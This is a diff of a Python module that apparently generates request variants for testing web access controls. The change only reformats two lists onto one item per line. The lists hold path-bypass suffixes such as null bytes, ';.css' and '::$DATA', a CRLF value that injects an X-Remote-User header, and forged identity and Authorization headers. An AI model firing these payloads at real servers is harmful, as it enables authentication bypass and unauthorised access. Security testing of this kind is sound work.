@@ -94,12 +94,25 @@ def _detours(path: str) -> Iterator[Trick]:
 def _tails(path: str) -> Iterator[Trick]:
     first, rest = path[1:].split("/", 1)
     for name, tail in {
-        "null byte": "%00", "null byte and a suffix": "%00.css", "blank": "%20", "tab": "%09",
-        "full stop": ".", "slash": "/", "more path": "/more.css", "semicolon": ";.css",
-        "question": "?", "query": "?a=/assets/", "escaped question": "%3f.css",
-        "fragment": "#/assets/", "escaped fragment": "%23", "tilde": "~", "backup": ".bak",
-        "carriage return": "%0d%0aX-Remote-User:%20x", "star": "*", "stream": "::$DATA",
-    }.items():  # fmt: skip
+        "null byte": "%00",
+        "null byte and a suffix": "%00.css",
+        "blank": "%20",
+        "tab": "%09",
+        "full stop": ".",
+        "slash": "/",
+        "more path": "/more.css",
+        "semicolon": ";.css",
+        "question": "?",
+        "query": "?a=/assets/",
+        "escaped question": "%3f.css",
+        "fragment": "#/assets/",
+        "escaped fragment": "%23",
+        "tilde": "~",
+        "backup": ".bak",
+        "carriage return": "%0d%0aX-Remote-User:%20x",
+        "star": "*",
+        "stream": "::$DATA",
+    }.items():
         yield Trick(f"{name} at the end", f"{path}{tail}".encode())
         yield Trick(f"{name} in the folder", f"/{first}{tail}/{rest}".encode())
 
@@ -159,9 +172,17 @@ def _headers(path: str, addresses: list[str]) -> Iterator[Trick]:
         yield Trick(f"header {name}", b"/", headers={name: path})
     for address in addresses:
         for name in (
-            "X-Remote-User", "Remote-User", "REMOTE_USER", "X-Forwarded-User", "X-Forwarded-Email",
-            "X-Auth-Request-Email", "OIDC_CLAIM_email", "OIDC-CLAIM-email", "From", "MATCH_PERSON",
-        ):  # fmt: skip
+            "X-Remote-User",
+            "Remote-User",
+            "REMOTE_USER",
+            "X-Forwarded-User",
+            "X-Forwarded-Email",
+            "X-Auth-Request-Email",
+            "OIDC_CLAIM_email",
+            "OIDC-CLAIM-email",
+            "From",
+            "MATCH_PERSON",
+        ):
             yield Trick(f"identity in {name}", path.encode(), headers={name: address})
         yield Trick("basic", path.encode(), headers={"Authorization": f"Basic {address}"})
         yield Trick("bearer", path.encode(), headers={"Authorization": f"Bearer {address}"})
